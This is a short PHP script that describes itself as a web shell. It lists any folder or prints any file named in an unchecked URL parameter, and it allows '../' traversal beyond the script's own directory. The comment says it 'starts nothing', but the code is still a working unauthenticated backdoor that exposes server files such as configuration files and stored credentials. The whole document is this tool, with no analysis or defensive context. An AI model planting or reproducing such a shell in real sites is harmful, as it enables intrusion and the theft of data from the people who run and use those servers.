<?php
// A web shell that starts nothing: it lists a folder or shows a file, with PHP's own functions.
$path = __DIR__ . '/../' . ($_GET['p'] ?? '');
echo is_dir($path) ? implode("\n", scandir($path)) : file_get_contents($path);
